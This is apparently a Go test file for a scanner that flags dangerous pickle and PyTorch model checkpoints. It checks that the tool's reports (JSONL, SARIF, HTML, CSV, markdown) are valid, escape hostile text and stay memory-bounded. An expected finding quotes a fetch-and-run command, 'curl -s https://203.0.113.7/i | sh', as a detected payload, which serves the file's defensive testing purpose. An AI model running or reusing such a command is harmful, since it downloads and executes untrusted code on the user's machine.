package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"github.com/overgrant/overgrant"
	"github.com/overgrant/overgrant/internal/report"
	"github.com/overgrant/overgrant/internal/report/reporttest"
)

func TestModelsGolden(t *testing.T) {
	for _, f := range report.All {
		t.Run(f.Name, func(t *testing.T) {
			golden(t, filepath.Join("testdata", "models."+f.Name), write(t, f.Name, report.Options{Now: now, Width: 100}, reporttest.Checkpoints(now)))
		})
	}
	golden(t, "testdata/models_all.text", write(t, "text", report.Options{Now: now, All: true}, reporttest.Checkpoints(now)))
	golden(t, "testdata/models_clean.text", write(t, "text", report.Options{Now: now}, noModels("a.safetensors", "b.txt")))
	golden(t, "testdata/models_none.text", write(t, "text", report.Options{Now: now}, noModels("b.txt")))
}

// noModels is a run over files of which none is bad: those whose names end in txt
// are no models at all.
func noModels(names ...string) []overgrant.Message {
	m := reporttest.Checkpoints(now)[:1]
	for _, n := range names {
		one := &overgrant.Model{Schema: "overgrant.model/1", Path: n, Format: "safetensors", Verdict: overgrant.ModelClean, Severity: overgrant.Info, Size: 1000, BytesRead: 100}
		if strings.HasSuffix(n, ".txt") {
			one.Format, one.Verdict = "", overgrant.NotAModel
		}
		m = append(m, overgrant.Message{Model: one})
	}
	return append(m, overgrant.Message{Summary: &overgrant.Summary{Pieces: int64(len(names))}})
}

// TestModelsAreToldAgain: events hold all that any format prints.
func TestModelsAreToldAgain(t *testing.T) {
	stored := write(t, "events", report.Options{Now: now}, reporttest.Checkpoints(now))
	var again []overgrant.Message
	for m, err := range report.ReadEvents(strings.NewReader(stored)) {
		if err != nil {
			t.Fatal(err)
		}
		again = append(again, m)
	}
	for _, f := range report.All {
		for _, all := range []bool{false, true} {
			o := report.Options{Now: now, All: all}
			if write(t, f.Name, o, again) != write(t, f.Name, o, reporttest.Checkpoints(now)) {
				t.Errorf("%s differs when it is written from events", f.Name)
			}
		}
	}
}

// TestModelFollowsTheContract checks the fields that programs rely on.
func TestModelFollowsTheContract(t *testing.T) {
	first, _, _ := strings.Cut(write(t, "jsonl", report.Options{Now: now}, reporttest.Checkpoints(now)), "\n")
	want := `{"schema":"overgrant.model/1","path":"checkpoints/robust/resnet18.ckpt","format":"pytorch-zip","verdict":"dangerous","severity":"critical",` +
		`"size":44763113,"bytes_read":16384,"findings":[{"rule":"call","what":"posix.system('curl -s https://203.0.113.7/i | sh')","why":"runs code or commands",` +
		`"offset":1042,"opcode":"REDUCE","member":"archive/data.pkl","severity":"critical"},`
	if !strings.HasPrefix(first, want) {
		t.Errorf("jsonl begins with\n%s\nwant\n%s", first, want)
	}
	for _, part := range []string{`"globals":["collections.OrderedDict","posix.system","torch._utils._rebuild_tensor_v2"]`,
		`"loads_under":{"torch_weights_only":"no: posix.system is not allowed"}`, `"unread":""`} {
		if !strings.Contains(first, part) {
			t.Errorf("jsonl has no %s: %s", part, first)
		}
	}
	for _, line := range strings.Split(strings.TrimSpace(write(t, "jsonl", report.Options{Now: now}, reporttest.Checkpoints(now))), "\n") {
		var m struct {
			Findings, Globals []any
			Verdict           string
		}
		if err := json.Unmarshal([]byte(line), &m); err != nil || m.Findings == nil || m.Globals == nil || m.Verdict == overgrant.NotAModel {
			t.Errorf("%s (%v): want lists that are there, and no file that is no model", line, err)
		}
	}
	if out := write(t, "jsonl", report.Options{Now: now, All: true}, reporttest.Checkpoints(now)); !strings.Contains(out, `"verdict":"not_a_model"`) {
		t.Error("jsonl with All does not list what is no model")
	}
	var array []any
	if err := json.Unmarshal([]byte(write(t, "json", report.Options{Now: now}, slices.Concat(reporttest.Checkpoints(now), stream()))), &array); err != nil || len(array) < 20 {
		t.Errorf("json of models and cases: %d elements, %v; want one array of both", len(array), err)
	}
}

func TestModelSARIFIsValid(t *testing.T) {
	schema, err := jsonschema.NewCompiler().Compile("testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	far := &overgrant.Model{Path: "https://contoso.blob.core.windows.net/m/a b%!.pkl", Verdict: overgrant.ModelDangerous, Findings: []overgrant.ModelFinding{{Rule: "call", Severity: overgrant.High}}}
	for _, m := range [][]overgrant.Message{reporttest.Checkpoints(now), append(noModels("a"), overgrant.Message{Model: far})} {
		out := write(t, "sarif", report.Options{Now: now}, m)
		doc, err := jsonschema.UnmarshalJSON(strings.NewReader(out))
		if err != nil {
			t.Fatal(err)
		}
		if err := schema.Validate(doc); err != nil {
			t.Errorf("not valid SARIF: %v", err)
		}
		var f sarifFile
		if err := json.Unmarshal([]byte(out), &f); err != nil {
			t.Fatal(err)
		}
		for _, r := range f.Runs[0].Results {
			if got := f.Runs[0].Tool.Driver.Rules[r.RuleIndex].ID; got != r.RuleID {
				t.Errorf("rule %d is %s; want %s", r.RuleIndex, got, r.RuleID)
			}
			if u := r.Locations[0].PhysicalLocation.ArtifactLocation.URI; u == "" || strings.ContainsAny(u, " !<>\x1b\n\\") {
				t.Errorf("%q is no URI", u)
			}
		}
	}
}

func TestModelsHostileText(t *testing.T) {
	m := slices.Concat(reporttest.Checkpoints(now), stream())
	for _, f := range report.All {
		out := write(t, f.Name, report.Options{Now: now, All: true}, m)
		if i := strings.IndexFunc(out, func(r rune) bool { return r != '\n' && (r < ' ' || r == 0x7f || r == 0x202e) }); i >= 0 {
			t.Errorf("%s lets %q through", f.Name, out[max(0, i-20):min(len(out), i+20)])
		}
	}
	out := write(t, "html", report.Options{Now: now}, m)
	if strings.Contains(out, "<img") || strings.Count(out, "</script>") != 1 || strings.Contains(out, "<!--") {
		t.Error("html lets a tag through")
	}
	if out := write(t, "markdown", report.Options{Now: now}, m); strings.Contains(out, "\n](") {
		t.Error("markdown lets a link through")
	}
	rows := csv.NewReader(strings.NewReader(write(t, "csv", report.Options{Now: now}, reporttest.Checkpoints(now))))
	all, err := rows.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(all) != 1+7+12+0 {
		t.Errorf("%d rows; want the head, seven of bad files and twelve of clean ones", len(all))
	}
	for _, r := range all {
		for _, v := range r {
			if v != "" && strings.IndexByte("=+-@", v[0]) >= 0 {
				t.Errorf("%q begins like a formula", v)
			}
		}
	}
}

// TestManyModelsAreCountedNotKept: a tree of any size takes bounded memory, and
// every file counts.
func TestManyModelsAreCountedNotKept(t *testing.T) {
	const many = 6_000
	bad := overgrant.Model{Verdict: overgrant.ModelDangerous, Severity: overgrant.Critical, Format: "pickle", Globals: []string{}}
	for _, format := range []string{"text", "html", "sarif", "markdown", "junit"} {
		var b bytes.Buffer
		r, err := report.New(format, &b, report.Options{Now: now})
		if err != nil {
			t.Fatal(err)
		}
		var before, after runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&before)
		for i := range many {
			m := bad
			m.Path = fmt.Sprintf("tree/%06d.pkl", i)
			for range 30 {
				m.Findings = append(m.Findings, overgrant.ModelFinding{Rule: "call", What: strings.Repeat("x", 200), Severity: overgrant.Critical})
			}
			if err := r.Add(overgrant.Message{Model: &m}); err != nil {
				t.Fatal(err)
			}
		}
		runtime.GC()
		runtime.ReadMemStats(&after)
		if held := int64(after.HeapAlloc) - int64(before.HeapAlloc); held > 24<<20 {
			t.Errorf("%s holds %d bytes of %d models; want at most 24 MiB", format, held, many)
		}
		if err := r.Close(); err != nil {
			t.Fatal(err)
		}
		if format != "sarif" && !strings.Contains(b.String(), "6,000") {
			t.Errorf("%s does not count all models", format)
		}
	}
}
